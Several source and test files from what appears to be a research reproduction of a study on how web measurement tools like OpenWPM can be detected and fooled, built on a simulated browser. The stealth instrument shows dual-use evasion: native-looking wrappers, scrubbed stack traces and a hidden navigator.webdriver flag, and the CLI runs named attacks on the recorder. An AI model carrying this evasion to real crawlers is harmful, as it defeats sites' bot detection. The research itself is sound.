        assert config.detector_channels("front") == (True, False)

    def test_obfuscated_dynamic_only(self):
        config = self._config(front_detector_form="obfuscated")
        assert config.detector_channels("front") == (False, True)

    def test_sub_detector_not_counted_on_front(self):
        config = self._config(sub_detector_form="plain")
        assert config.detector_channels("front") == (False, False)
        assert config.detector_channels("any") == (True, True)

    def test_first_party_vendor_counts_both(self):
        config = self._config(first_party_vendor="Akamai")
        assert config.detector_channels("front") == (True, True)

    def test_clean_site(self):
        config = self._config()
        assert not config.has_detector
        assert config.detector_channels() == (False, False)


class TestSymbolNormalisation:
    def test_instance_style_mapped_to_interface_style(self):
        from collections import Counter

        from repro.core.comparison.experiment import _normalise_symbols

        merged = _normalise_symbols(Counter({
            "navigator.userAgent": 2,
            "Navigator.userAgent": 3,
            "screen.availLeft": 1,
        }))
        assert merged["Navigator.userAgent"] == 5
        assert merged["Screen.availLeft"] == 1


class TestSharedPrototypeWrapping:
    def test_stealth_event_target_wrap_reaches_other_interfaces(self):
        """The documented Sec. 6.1.4 limitation: wrapping a shared
        prototype (EventTarget) instruments every inheriting interface
        — so calls via document are recorded under EventTarget too."""
        from repro.browser.profiles import openwpm_profile
        from repro.core.hardening import StealthJSInstrument
        from repro.core.lab import visit_with_scripts
        from repro.openwpm import BrowserParams, OpenWPMExtension

        extension = OpenWPMExtension(
            BrowserParams(stealth=True),
            js_instrument=StealthJSInstrument())
        _, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"),
            ["document.addEventListener('x', function () {});"],
            extension=extension)
        assert any(r.symbol == "EventTarget.addEventListener"
                   for r in extension.js_instrument.records)

    def test_vanilla_pollution_copies_do_not_mutate_shared_proto(self):
        from repro.browser.profiles import openwpm_profile
        from repro.core.lab import make_window
        from repro.openwpm import BrowserParams, OpenWPMExtension

        extension = OpenWPMExtension(BrowserParams())
        _, window = make_window(openwpm_profile("ubuntu", "regular"),
                                extension=extension)
        # The shared EventTarget prototype still holds native functions;
        # the wrapped copies live on Screen's own prototype.
        desc = window.dom.event_target.get_own_descriptor(
            "addEventListener")
        assert "openwpm_wrapped" not in desc.meta
        screen_desc = window.screen_proto.get_own_descriptor(
            "addEventListener")
        assert screen_desc is not None
        assert screen_desc.meta.get("openwpm_wrapped")

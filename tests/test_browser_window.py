"""Unit tests for the browser window JS wiring."""

import pytest

from repro.browser import Browser, openwpm_profile
from repro.core.lab import LAB_URL, make_lab_network, make_window, \
    visit_with_scripts
from repro.net.http import HttpResponse
from repro.net.network import FunctionServer, Network
from repro.net.page import PageSpec, ScriptItem


class TestFingerprintWiring:
    def test_navigator_values_from_profile(self, openwpm_window):
        w = openwpm_window
        assert "Firefox" in w.run_script("navigator.userAgent")
        assert w.run_script("navigator.webdriver") is True
        assert w.run_script("navigator.platform") == "Linux x86_64"

    def test_screen_values(self, openwpm_window):
        assert openwpm_window.run_script("screen.width") == 2560.0
        assert openwpm_window.run_script("screen.availTop") == 27.0

    def test_window_geometry(self, openwpm_window):
        assert openwpm_window.run_script("window.innerWidth") == 1366.0
        assert openwpm_window.run_script("window.innerHeight") == 683.0

    def test_geometry_offset_per_window_on_ubuntu(self):
        from repro.net.url import URL

        network = make_lab_network()
        browser = Browser(openwpm_profile("ubuntu", "regular"), network)
        first = browser.visit(LAB_URL, wait=0).top_window
        second_result = browser.visit(LAB_URL, wait=0)
        second = second_result.top_window
        x1 = first.run_script("window.screenX")
        x2 = second.run_script("window.screenX")
        assert x2 - x1 == 8.0  # Table 3: each window shifts by the offset

    def test_webgl_context_via_canvas(self, openwpm_window):
        assert openwpm_window.run_script(
            "document.createElement('canvas').getContext('webgl').VENDOR"
        ) == "AMD"

    def test_headless_webgl_is_null(self):
        _, window = make_window(openwpm_profile("ubuntu", "headless"))
        assert window.run_script(
            "document.createElement('canvas').getContext('webgl') === null"
        ) is True

    def test_font_check(self, openwpm_window):
        assert openwpm_window.run_script(
            "document.fonts.check('12px Ubuntu')") is True
        assert openwpm_window.run_script(
            "document.fonts.check('12px NotInstalledFont')") is False

    def test_measure_text_differs_for_installed_font(self, openwpm_window):
        width = openwpm_window.run_script("""
            var ctx = document.createElement('canvas').getContext('2d');
            ctx.font = '12px sans-serif';
            var base = ctx.measureText('mmm').width;
            ctx.font = '12px Ubuntu';
            var ubuntu = ctx.measureText('mmm').width;
            ubuntu !== base
        """)
        assert width is True

    def test_timezone(self, openwpm_window):
        assert openwpm_window.run_script(
            "new Date().getTimezoneOffset()") == -60.0

    def test_docker_timezone_zero(self):
        _, window = make_window(openwpm_profile("ubuntu", "docker"))
        assert window.run_script("new Date().getTimezoneOffset()") == 0.0

    def test_languages_array(self, openwpm_window):
        assert openwpm_window.run_script(
            "navigator.languages.join(',')") == "en-US,en"


class TestTimersAndEval:
    def test_set_timeout_runs_on_event_loop(self):
        browser, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"),
            ["setTimeout(function () { window.fired = true; }, 1000);"],
            wait=5.0)
        assert result.top_window.window_object.get("fired") is True

    def test_clear_timeout_cancels(self):
        browser, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"),
            ["var id = setTimeout(function () { window.fired = true; }, "
             "1000); clearTimeout(id);"], wait=5.0)
        from repro.jsobject import UNDEFINED

        assert result.top_window.window_object.get("fired") is UNDEFINED

    def test_eval_executes_in_page(self, openwpm_window):
        assert openwpm_window.run_script("eval('2 + 3')") == 5.0

    def test_eval_blocked_by_csp(self):
        browser, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"), [],
            csp_header="script-src 'self' 'unsafe-inline'; report-uri /csp")
        window = result.top_window
        window.run_script("var ok = true; try { eval('1'); } "
                          "catch (e) { ok = false; } window.evalOk = ok;")
        assert window.window_object.get("evalOk") is False


class TestNetworkAPIs:
    def _browser_with_endpoint(self, body="payload", scripts=None):
        page = PageSpec(url=LAB_URL, items=[
            ScriptItem(source=s) for s in (scripts or [])])
        network = Network()

        def serve(request, client, net):
            if request.url.path == "/data":
                return HttpResponse(content_type="text/plain", body=body)
            return HttpResponse(page=page, body=page.to_html())

        network.register_domain("lab.test", FunctionServer(serve))
        browser = Browser(openwpm_profile("ubuntu", "regular"), network)
        return browser, browser.visit(LAB_URL, wait=5)

    def test_fetch_then_chain(self):
        browser, result = self._browser_with_endpoint(
            scripts=["fetch('/data').then(function (r) { return r.text(); })"
                     ".then(function (t) { window.got = t; });"])
        assert result.top_window.window_object.get("got") == "payload"

    def test_xhr(self):
        browser, result = self._browser_with_endpoint(
            scripts=["""
                var xhr = new XMLHttpRequest();
                xhr.open('GET', '/data');
                xhr.onload = function () { window.got = xhr.responseText; };
                xhr.send();
            """])
        assert result.top_window.window_object.get("got") == "payload"

    def test_image_src_fires_request(self):
        browser, result = self._browser_with_endpoint(
            scripts=["var i = new Image(); i.src = '/data';"])
        assert any(e.request.url.path == "/data"
                   and e.request.resource_type == "image"
                   for e in result.exchanges)

    def test_beacon_resource_type(self):
        browser, result = self._browser_with_endpoint(
            scripts=["navigator.sendBeacon('/data');"])
        assert any(e.request.resource_type == "beacon"
                   for e in result.exchanges)

    def test_websocket_handshake_request(self):
        browser, result = self._browser_with_endpoint(
            scripts=["new WebSocket('wss://lab.test/live');"])
        assert any(e.request.resource_type == "websocket"
                   for e in result.exchanges)

    def test_local_storage_persists_within_origin(self, openwpm_window):
        openwpm_window.run_script("localStorage.setItem('k', 'v');")
        assert openwpm_window.run_script("localStorage.getItem('k')") == "v"

    def test_document_cookie_roundtrip(self):
        browser, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"),
            ["document.cookie = 'a=1; Max-Age=60';"
             " window.jar = document.cookie;"])
        assert "a=1" in result.top_window.window_object.get("jar")

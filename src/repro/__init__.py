"""Reproduction of *How gullible are web measurement tools?* (CoNEXT '22).

Krumnow, Jonker, Karsch: a case study analysing and strengthening
OpenWPM's reliability - rebuilt end-to-end on a simulated browser/web
substrate.

Public API tour:

* :mod:`repro.web` - ``build_world(site_count, seed)``: a deterministic
  synthetic Tranco-style web with planted detectors, trackers, and
  cloaking, plus its ground truth.
* :mod:`repro.openwpm` - the OpenWPM reimplementation: ``TaskManager``,
  ``OpenWPMExtension``, ``StorageController``, and the (deliberately
  vulnerable) HTTP/cookie/JS instruments.
* :mod:`repro.core.fingerprint` - template attacks, probe lists,
  surface diffing, and the validated ``OpenWPMDetector`` (Sec. 3).
* :mod:`repro.core.attacks` - the Listing 2-4 recording attacks
  (Sec. 5).
* :mod:`repro.core.hardening` - ``StealthJSInstrument`` / WPM_hide
  (Sec. 6).
* :mod:`repro.core.scan` - the combined static+dynamic detector scan
  with honey properties (Sec. 4).
* :mod:`repro.core.comparison` - the paired WPM vs WPM_hide experiment
  (Sec. 6.3).
* :mod:`repro.literature` - the study survey and release-lag datasets
  (Tables 1, 14, 15).

Substrates (all built from scratch): :mod:`repro.jsobject` /
:mod:`repro.jsengine` (a JavaScript object model and interpreter),
:mod:`repro.dom` (DOM + CSP), :mod:`repro.browser` (fingerprint
profiles, windows, cookies, extensions), :mod:`repro.net` (HTTP/URL
fabric).
"""

__version__ = "1.0.0"

__all__ = ["__version__"]

"""Fake stack traces (paper Sec. 6.1.3).

A page can only read stacks off thrown errors. The hardened instrument
catches errors crossing a wrapper and rethrows them with every
instrumentation frame removed and fileName/line/column adjusted to the
first page-level frame, so no sign of the wrapping survives.
"""

from __future__ import annotations

from typing import Any, Iterable

from repro.jsobject.objects import JSObject
from repro.jsobject.values import UNDEFINED

#: Substrings identifying instrumentation frames in stack strings.
INSTRUMENT_MARKERS = ("moz-extension://", "openwpm", "wpmhide")


def sanitize_error_stack(error: Any,
                         markers: Iterable[str] = INSTRUMENT_MARKERS) -> Any:
    """Strip instrumentation frames from a thrown error, in place.

    Non-object throw values (strings, numbers) carry no stack and pass
    through unchanged.
    """
    if not isinstance(error, JSObject):
        return error
    stack = error.get("stack")
    if not isinstance(stack, str) or not stack:
        return error
    kept = [line for line in stack.split("\n")
            if not any(marker in line for marker in markers)]
    error.set("stack", "\n".join(kept))

    # Re-point fileName / line / column at the first surviving frame.
    if kept:
        top = kept[0]
        if "@" in top:
            _, _, location = top.partition("@")
            parts = location.rsplit(":", 2)
            if len(parts) == 3:
                error.set("fileName", parts[0])
                try:
                    error.set("lineNumber", float(int(parts[1])))
                    error.set("columnNumber", float(int(parts[2])))
                except ValueError:
                    pass
    return error


def stack_mentions_instrumentation(stack: Any) -> bool:
    """True when a stack string betrays the instrumentation."""
    if not isinstance(stack, str):
        return False
    return any(marker in stack for marker in INSTRUMENT_MARKERS)

"""Tests for the DOM as seen from JavaScript (prototypes wiring)."""

import pytest

from repro.core.lab import visit_with_scripts
from repro.browser.profiles import openwpm_profile


def run_page(*scripts, **kwargs):
    _, result = visit_with_scripts(openwpm_profile("ubuntu", "regular"),
                                   list(scripts), **kwargs)
    assert result.script_errors == [], result.script_errors
    return result.top_window


class TestDocumentAPI:
    def test_create_and_append(self):
        window = run_page("""
            var div = document.createElement('div');
            div.id = 'made';
            document.body.appendChild(div);
            window.found = document.getElementById('made') !== null;
        """)
        assert window.window_object.get("found") is True

    def test_query_selector_from_js(self):
        window = run_page("""
            var el = document.createElement('span');
            el.className = 'hit me';
            document.body.appendChild(el);
            window.n = document.querySelectorAll('.hit').length;
        """)
        assert window.window_object.get("n") == 1.0

    def test_set_get_attribute(self):
        window = run_page("""
            var a = document.createElement('a');
            a.setAttribute('href', '/next');
            window.href = a.getAttribute('href');
            window.missing = a.getAttribute('nope');
        """)
        assert window.window_object.get("href") == "/next"
        from repro.jsobject import NULL

        assert window.window_object.get("missing") is NULL

    def test_inner_html_builds_subtree(self):
        window = run_page("""
            document.body.innerHTML =
                '<div id="wrap"><span class="x"></span></div>';
            window.ok = document.querySelector('#wrap') !== null
                && document.querySelector('.x') !== null;
        """)
        assert window.window_object.get("ok") is True

    def test_document_write_executes_scripts(self):
        window = run_page(
            'document.write("<script>window.written = 9;</'
            'script>");')
        assert window.window_object.get("written") == 9.0

    def test_text_content(self):
        window = run_page("""
            var p = document.createElement('p');
            p.textContent = 'hello';
            window.text = p.textContent;
        """)
        assert window.window_object.get("text") == "hello"

    def test_ready_state(self):
        window = run_page("window.state = document.readyState;")
        # Scripts run during parsing: state was 'loading' then.
        assert window.window_object.get("state") == "loading"
        assert window.document.ready_state == "complete"

    def test_remove_child(self):
        window = run_page("""
            var d = document.createElement('div');
            d.id = 'gone';
            document.body.appendChild(d);
            document.body.removeChild(d);
            window.still = document.getElementById('gone') !== null;
        """)
        assert window.window_object.get("still") is False


class TestEventsFromJS:
    def test_add_and_dispatch_listener(self):
        window = run_page("""
            window.calls = 0;
            document.addEventListener('ping', function (e) {
                window.calls = window.calls + 1;
                window.detail = e.detail;
            });
            document.dispatchEvent(new CustomEvent('ping',
                {detail: 'payload'}));
        """)
        assert window.window_object.get("calls") == 1.0
        assert window.window_object.get("detail") == "payload"

    def test_remove_event_listener(self):
        window = run_page("""
            window.calls = 0;
            function handler() { window.calls = window.calls + 1; }
            document.addEventListener('t', handler);
            document.removeEventListener('t', handler);
            document.dispatchEvent(new CustomEvent('t'));
        """)
        assert window.window_object.get("calls") == 0.0

    def test_load_event_fires_after_parsing(self):
        window = run_page("""
            window.loaded = false;
            document.addEventListener('load', function () {
                window.loaded = true;
            });
        """)
        assert window.window_object.get("loaded") is True

    def test_dispatch_requires_event_object(self):
        window = run_page("""
            var threw = false;
            try { document.dispatchEvent('not-an-event'); }
            catch (e) { threw = true; }
            window.threw = threw;
        """)
        assert window.window_object.get("threw") is True


class TestFramesFromJS:
    def test_frames_accessor_lists_children(self):
        window = run_page("""
            var f = document.createElement('iframe');
            document.body.appendChild(f);
            window.frameCount = window.frames.length;
        """)
        assert window.window_object.get("frameCount") == 1.0

    def test_content_document_reachable(self):
        window = run_page("""
            var f = document.createElement('iframe');
            document.body.appendChild(f);
            window.sub = f.contentDocument !== null;
        """)
        assert window.window_object.get("sub") is True

    def test_top_and_parent_from_iframe(self):
        window = run_page("""
            var f = document.createElement('iframe');
            document.body.appendChild(f);
            window.sameTop = f.contentWindow.top === window;
            window.sameParent = f.contentWindow.parent === window;
        """)
        assert window.window_object.get("sameTop") is True
        assert window.window_object.get("sameParent") is True

    def test_window_open_creates_popup(self):
        _, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"),
            ["window.open('https://lab.test/popup');"])
        assert len(result.popups) == 1
        assert result.popups[0].is_popup

"""Table 7: domains hosting third-party detector scripts."""

from conftest import report

PAPER_SHARES = [
    ("yandex.ru", 0.1804),
    ("adsafeprotected.com", 0.1083),
    ("moatads.com", 0.1015),
    ("webgains.io", 0.0981),
    ("crazyegg.com", 0.0728),
    ("intercomcdn.com", 0.0498),
    ("teads.tv", 0.0400),
    ("jsdelivr.net", 0.0198),
    ("mxcdn.net", 0.0195),
    ("mgid.com", 0.0189),
]


def test_benchmark_table7(benchmark, bench_scan):
    top = benchmark(bench_scan.table7, 10)
    first, third = bench_scan.inclusion_totals()

    paper_lookup = dict(PAPER_SHARES)
    lines = [f"(first-party scripts: {first}, third-party inclusions: "
             f"{third}; paper: 3,867 / 21,325)", "",
             "| rank | domain | inclusions | share | paper share |",
             "|---|---|---|---|---|"]
    for index, (domain, count, share) in enumerate(top, start=1):
        paper = paper_lookup.get(domain)
        lines.append(
            f"| {index} | {domain} | {count} | {share:.3f} | "
            f"{paper if paper is not None else 'long tail'} |")
    report("table07_third_party_domains",
           "Table 7 - third-party detector hosting domains", lines)

    measured = {domain: share for domain, _, share in top}
    # yandex.ru leads, as in the paper.
    assert top[0][0] == "yandex.ru"
    # Named top-10 providers from the paper appear in our top listing.
    named_present = [d for d, _ in PAPER_SHARES if d in measured]
    assert len(named_present) >= 5
    assert third > first  # third-party detectors dominate (Sec. 4.3)

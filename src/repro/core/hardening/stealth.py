"""The hardened JavaScript instrument (WPM_hide).

Differences from the vanilla instrument, keyed to the paper:

* **No DOM injection** — wrappers are installed directly from the
  content context via ``exportFunction`` (Sec. 6.1.2, 6.2.1): CSP cannot
  block installation and no ``getInstrumentJS`` residue exists.
* **Native-looking wrappers** — every wrapper is an exported function
  whose ``toString`` is the original native-code string (Sec. 6.1.1).
* **Private messaging** — records go to the background context through a
  channel captured in the wrapper's closure; there is no page-visible
  event dispatcher to hijack (defeats Listing 2, Sec. 6.2.1).
* **Per-prototype wrapping** — each prototype's own properties are
  wrapped in place on that prototype; nothing is copied down the chain
  (Sec. 6.1.4). The documented limitation applies: wrapping a shared
  prototype (EventTarget) instruments every interface inheriting it.
* **Clean stack traces** — exported wrappers add no interpreter frames,
  and errors crossing a wrapper are additionally scrubbed (Sec. 6.1.3).
* **Frame protection** — ``frame_policy = "immediate"``: new frames and
  popups are instrumented synchronously at creation, closing the
  Listing-3 window (Sec. 6.2.2).
* **webdriver hidden** — ``navigator.webdriver`` reads false while the
  access itself is still recorded (Sec. 6.1.5).
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.core.hardening.errors import sanitize_error_stack
from repro.jsobject.descriptors import PropertyDescriptor
from repro.jsobject.errors import JSError
from repro.jsobject.functions import JSFunction
from repro.jsobject.objects import JSObject
from repro.jsobject.values import UNDEFINED
from repro.openwpm.instruments.js_instrument import (
    DEFAULT_TARGETS,
    JSCallRecord,
    TargetSpec,
)


def _interface_name(proto: JSObject, fallback: str) -> str:
    name = proto.class_name
    if name.endswith("Prototype"):
        return name[: -len("Prototype")]
    return fallback


class StealthJSInstrument:
    """Drop-in replacement for :class:`JSInstrument` with stealth."""

    name = "stealth_js_instrument"
    frame_policy = "immediate"

    def __init__(self, storage: Any = None,
                 targets: Optional[List[TargetSpec]] = None,
                 hide_webdriver: bool = True) -> None:
        self.storage = storage
        self.targets = targets if targets is not None else DEFAULT_TARGETS
        self.hide_webdriver = hide_webdriver
        self.records: List[JSCallRecord] = []
        self.install_counts: Dict[int, int] = {}
        #: Kept for interface parity with JSInstrument; stays empty —
        #: installation cannot be blocked by page policy.
        self.failed_windows: List[Any] = []
        self.frames_instrumented = 0

    # ==================================================================
    def instrument_window(self, window: Any, context: Any) -> bool:
        if window.parent is not None or window.is_popup:
            self.frames_instrumented += 1
        installed = 0
        for target in self.targets:
            obj = self._resolve_path(window, target.path)
            if isinstance(obj, JSObject):
                installed += self._instrument_object(window, context, obj,
                                                     target)
        if self.hide_webdriver:
            self._hide_webdriver(window, context)
        self.install_counts[id(window)] = installed
        return True

    def _resolve_path(self, window: Any, path: str) -> Any:
        obj: Any = window.window_object
        for part in path.split("."):
            if not isinstance(obj, JSObject):
                return UNDEFINED
            obj = obj.get(part, window.interp)
        return obj

    # ------------------------------------------------------------------
    def _instrument_object(self, window: Any, context: Any, obj: JSObject,
                           target: TargetSpec) -> int:
        realm = window.realm
        if target.is_prototype:
            chain = [obj]
            walker = obj.proto
        else:
            chain = []
            walker = obj.proto
        while walker is not None and walker is not realm.object_prototype \
                and walker is not realm.function_prototype:
            chain.append(walker)
            walker = walker.proto
        if not chain:
            chain = [obj]

        fallback_name = target.path.split(".")[0] \
            if not target.is_prototype else target.path.rsplit(".", 2)[0]
        installed = 0
        for proto in chain:
            interface = _interface_name(proto, fallback_name)
            for name, desc in list(proto.properties.items()):
                if name in target.exclude or name == "constructor":
                    continue
                if desc.meta.get("wpmhide_wrapped"):
                    continue
                if target.methods_only and not desc.is_accessor \
                        and not isinstance(desc.value, JSFunction):
                    continue
                wrapped = self._wrap_descriptor(
                    window, context, interface, name, desc,
                    methods_only=target.methods_only)
                if wrapped is None:
                    continue
                wrapped.meta["wpmhide_wrapped"] = True
                wrapped.meta["wpmhide_original"] = desc
                # Per-prototype: the wrapper replaces the property on the
                # SAME prototype it was found on — no pollution.
                proto.properties[name] = wrapped
                installed += 1
        return installed

    # ------------------------------------------------------------------
    def _wrap_descriptor(self, window: Any, context: Any, interface: str,
                         name: str, desc: PropertyDescriptor,
                         methods_only: bool
                         ) -> Optional[PropertyDescriptor]:
        symbol = f"{interface}.{name}"

        def log(operation: str, value: str = "", arguments: str = "") -> None:
            self._record(window, symbol, operation, value, arguments)

        if desc.is_accessor:
            original_get, original_set = desc.get, desc.set

            def stealth_get(interp, this, args):
                result = original_get.call(interp, this, []) \
                    if original_get is not None else UNDEFINED
                log("get", value=self._render(window, result))
                return result

            def stealth_set(interp, this, args):
                log("set", value=self._render(window,
                                              args[0] if args else UNDEFINED))
                if original_set is not None:
                    return original_set.call(interp, this, args)
                return UNDEFINED

            return PropertyDescriptor.accessor(
                get=context.export_function(stealth_get, name,
                                            masquerade_name=name),
                set=context.export_function(stealth_set, name,
                                            masquerade_name=name),
                enumerable=desc.enumerable, configurable=desc.configurable)

        value = desc.value
        if isinstance(value, JSFunction):
            original = value

            def stealth_call(interp, this, args):
                log("call", arguments=",".join(
                    self._render(window, a) for a in args))
                try:
                    return original.call(interp, this, args)
                except JSError as exc:
                    # Scrub any instrumentation trace before the page
                    # can observe the error (Sec. 6.1.3).
                    raise JSError(sanitize_error_stack(exc.value)) from exc

            wrapper = context.export_function(
                stealth_call, original.function_name or name,
                masquerade_name=original.function_name or name)
            return PropertyDescriptor(
                value=wrapper, writable=desc.writable,
                enumerable=desc.enumerable, configurable=desc.configurable)

        if methods_only:
            return None
        original_value = value

        def data_get(interp, this, args):
            log("get", value=self._render(window, original_value))
            return original_value

        def data_set(interp, this, args):
            log("set", value=self._render(window,
                                          args[0] if args else UNDEFINED))
            return UNDEFINED

        return PropertyDescriptor.accessor(
            get=context.export_function(data_get, name,
                                        masquerade_name=name),
            set=context.export_function(data_set, name,
                                        masquerade_name=name),
            enumerable=desc.enumerable, configurable=desc.configurable)

    # ------------------------------------------------------------------
    def _hide_webdriver(self, window: Any, context: Any) -> None:
        """navigator.webdriver reads false; the access is still logged."""
        proto = window.navigator_proto
        if proto is None:
            return

        def webdriver_get(interp, this, args):
            self._record(window, "Navigator.webdriver", "get", "false", "")
            return False

        desc = PropertyDescriptor.accessor(
            get=context.export_function(webdriver_get, "webdriver",
                                        masquerade_name="webdriver"),
            enumerable=True, configurable=True)
        desc.meta["wpmhide_wrapped"] = True
        proto.properties["webdriver"] = desc

    # ------------------------------------------------------------------
    def _render(self, window: Any, value: Any) -> str:
        try:
            return window.interp.to_string(value)[:256]
        except (JSError, TypeError):
            return "<unrenderable>"

    def _record(self, window: Any, symbol: str, operation: str,
                value: str, arguments: str) -> None:
        script_url = ""
        for frame in reversed(window.interp.call_stack):
            script_url = frame.script_url
            break
        record = JSCallRecord(
            symbol=symbol, operation=operation, value=value,
            arguments=arguments, call_stack="", script_url=script_url,
            document_url=str(window.url))
        self.records.append(record)
        if self.storage is not None:
            self.storage.record_javascript(
                document_url=record.document_url,
                script_url=record.script_url, symbol=symbol,
                operation=operation, value=value, arguments=arguments,
                call_stack="")

    # ------------------------------------------------------------------
    def symbols_accessed(self) -> List[str]:
        return [record.symbol for record in self.records]

    def clear_records(self) -> None:
        self.records.clear()

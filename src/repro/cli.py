"""Command-line interface: ``python -m repro <command>``.

Commands mirror the paper's experiments:

* ``audit``   — fingerprint surface + detector validation (Sec. 3)
* ``scan``    — the static+dynamic detector scan (Sec. 4)
* ``attack``  — the recording attacks vs vanilla/hardened (Sec. 5/6)
* ``compare`` — the paired WPM vs WPM_hide crawl (Sec. 6.3)
* ``survey``  — the literature datasets (Tables 1 and 14)
* ``stats``   — crawl health / loss-accounting report (telemetry)
* ``serve``   — query API over a crawl database (``build``/``verify``
  maintain and differential-check its read-optimized rollups)
* ``crawl``   — scheduled crawl: worker pool, persistent queue, --resume
* ``merge``   — fold per-worker shard databases (``--shard-dbs``) into
  one canonical crawl database, deterministically
* ``fidelity``— score a replayed execution bundle against its recording
* ``corpus``  — content-addressed store maintenance (``verify``)
* ``trace``   — export a crawl as Chrome trace-event JSON (Perfetto)
* ``profile`` — JS-engine profile: hot scripts/functions by op count
* ``tail``    — print (or follow) the merged flight-recorder journal
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from typing import List, Optional


def _cmd_audit(args: argparse.Namespace) -> int:
    from repro.browser.profiles import openwpm_profile, \
        stock_firefox_profile
    from repro.core.fingerprint import (
        OpenWPMDetector,
        capture_template,
        diff_templates,
        run_probes,
    )
    from repro.core.fingerprint.surface import summarise_setup
    from repro.core.lab import make_window
    from repro.openwpm import BrowserParams, OpenWPMExtension

    _, baseline_window = make_window(stock_firefox_profile(args.os))
    baseline = capture_template(baseline_window)
    extension = OpenWPMExtension(BrowserParams(
        os_name=args.os, display_mode=args.mode)) \
        if not args.no_instrument else None
    _, window = make_window(openwpm_profile(args.os, args.mode),
                            extension=extension)
    surface = diff_templates(baseline, capture_template(window))
    probes = run_probes(window)
    summary = summarise_setup(f"{args.os}/{args.mode}", surface,
                              probes.values)
    report = OpenWPMDetector().test_window(window)
    print(json.dumps({
        "setup": summary.setup,
        "webdriver": summary.webdriver,
        "webgl_deviations": summary.webgl_deviations,
        "language_additions": summary.language_additions,
        "tampered_properties": summary.tampering,
        "custom_functions": summary.custom_functions,
        "detected": report.is_openwpm,
        "matched_rules": report.matched_descriptions(),
    }, indent=2))
    return 0


def _cmd_scan(args: argparse.Namespace) -> int:
    from repro.core.scan import ScanPipeline

    if args.resume and args.queue == ":memory:":
        print("error: --resume needs a file-backed queue (pass --queue)",
              file=sys.stderr)
        return 2
    if args.worker_procs is not None:
        if args.worker_procs < 1:
            print("error: --worker-procs must be >= 1", file=sys.stderr)
            return 2
        if args.queue == ":memory:":
            print("error: --worker-procs needs a file-backed queue "
                  "(pass --queue); worker processes cannot share an "
                  "in-memory queue", file=sys.stderr)
            return 2
        if args.record is not None or args.replay is not None:
            print("error: --worker-procs cannot be combined with "
                  "--record/--replay (bundle hooks live on the "
                  "coordinator's network, which worker processes "
                  "never touch)", file=sys.stderr)
            return 2
    elif args.shard_dbs or args.pin_cpus:
        print("error: --shard-dbs/--pin-cpus require --worker-procs",
              file=sys.stderr)
        return 2
    if args.record is not None and args.resume:
        print("error: --record archives one complete scan; it cannot "
              "be combined with --resume", file=sys.stderr)
        return 2
    if args.offline:
        if args.replay is None:
            print("error: --offline re-analyses an archived bundle; "
                  "it needs --replay <dir>", file=sys.stderr)
            return 2
        if args.record is not None:
            print("error: --offline never touches the network layer, "
                  "so there are no exchanges to --record; replay "
                  "without --offline to re-record", file=sys.stderr)
            return 2
        from repro.bundles import Bundle, BundleError
        from repro.bundles.reanalyze import reanalyze_bundle

        try:
            bundle = Bundle(args.replay)
            dataset = reanalyze_bundle(bundle)
        except BundleError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        print(json.dumps(_scan_output(dataset), indent=2))
        bundle.close()
        return 0
    if args.replay is not None:
        from repro.bundles import Bundle, BundleError, ReplayWeb

        try:
            bundle = Bundle(args.replay)
        except BundleError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        web = ReplayWeb(bundle)
    else:
        from repro.web import build_world

        web = build_world(site_count=args.sites, seed=args.seed)
    recorder = None
    if args.record is not None:
        from repro.bundles import BundleError, BundleRecorder

        try:
            recorder = BundleRecorder(
                args.record, kind="scan",
                params={"sites": args.sites, "seed": args.seed,
                        "front_only": bool(args.front_only),
                        "replay_of": args.replay},
                sites=[config.domain for config in web.configs])
        except BundleError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
    pipeline = ScanPipeline(web, recorder=recorder)
    dataset = pipeline.run(visit_subpages=not args.front_only,
                           workers=args.workers,
                           queue_path=args.queue, resume=args.resume,
                           worker_procs=args.worker_procs,
                           world_seed=args.seed,
                           shard_dbs=args.shard_dbs,
                           pin_cpus=args.pin_cpus)
    if recorder is not None:
        recorder.close(
            complete=dataset.visited_sites >= len(web.configs))
    print(json.dumps(_scan_output(dataset), indent=2))
    return 0


def _scan_output(dataset) -> dict:
    return {
        "sites": dataset.visited_sites,
        "table5": dataset.table5(),
        "table11": dataset.table11(),
        "fig4": dataset.fig4(),
        "table7": dataset.table7(10),
        "table12": dataset.table12(),
        "openwpm_probe_sites": dataset.openwpm_probe_site_count(),
        "corpus": dataset.corpus.stats(),
    }


def _cmd_attack(args: argparse.Namespace) -> int:
    from repro.core.attacks import (
        run_block_recording_attack,
        run_csp_blocking_attack,
        run_fake_injection_attack,
        run_iframe_bypass_attack,
        run_silent_delivery_attack,
        run_sql_injection_probe,
    )

    attacks = {
        "block-recording": run_block_recording_attack,
        "fake-injection": run_fake_injection_attack,
        "csp-blocking": run_csp_blocking_attack,
        "iframe-bypass": run_iframe_bypass_attack,
        "silent-delivery": run_silent_delivery_attack,
    }
    out = {}
    for name, attack in attacks.items():
        out[name] = {
            "vs_wpm": attack(stealth=False).succeeded,
            "vs_wpm_hide": attack(stealth=True).succeeded,
        }
    out["sql-injection"] = {
        "database_corrupted": run_sql_injection_probe().succeeded}
    print(json.dumps(out, indent=2))
    return 0


def _cmd_compare(args: argparse.Namespace) -> int:
    from repro.core.comparison import PairedCrawl
    from repro.web import build_world

    web = build_world(site_count=args.sites, seed=args.seed)
    sites = sorted(web.ground_truth.detector_sites())
    result = PairedCrawl(web, sites=sites,
                         repetitions=args.repetitions).run()
    print(json.dumps({
        "detector_sites": len(sites),
        "table8_r1": result.table8(0),
        "csp_report_reduction_pct": result.csp_report_reduction(0),
        "table9": result.table9(),
        "table10": result.table10(),
        "cookie_wilcoxon_p": result.cookie_significance(0).p_value,
        "fig6_top": result.fig6(0)[:10],
    }, indent=2))
    return 0


def _database_path(path: str) -> Optional[str]:
    """Validate *path* as an existing crawl database, or complain.

    Opening a missing path with :class:`StorageController` would
    silently create an empty database and report zeros — exactly the
    kind of quiet wrong answer this repo exists to catch. Commands
    that *read* a crawl (``serve``, ``stats --db``, ``trace``,
    ``profile``) refuse instead; callers exit 2 on ``None``.
    """
    if os.path.isfile(path):
        return path
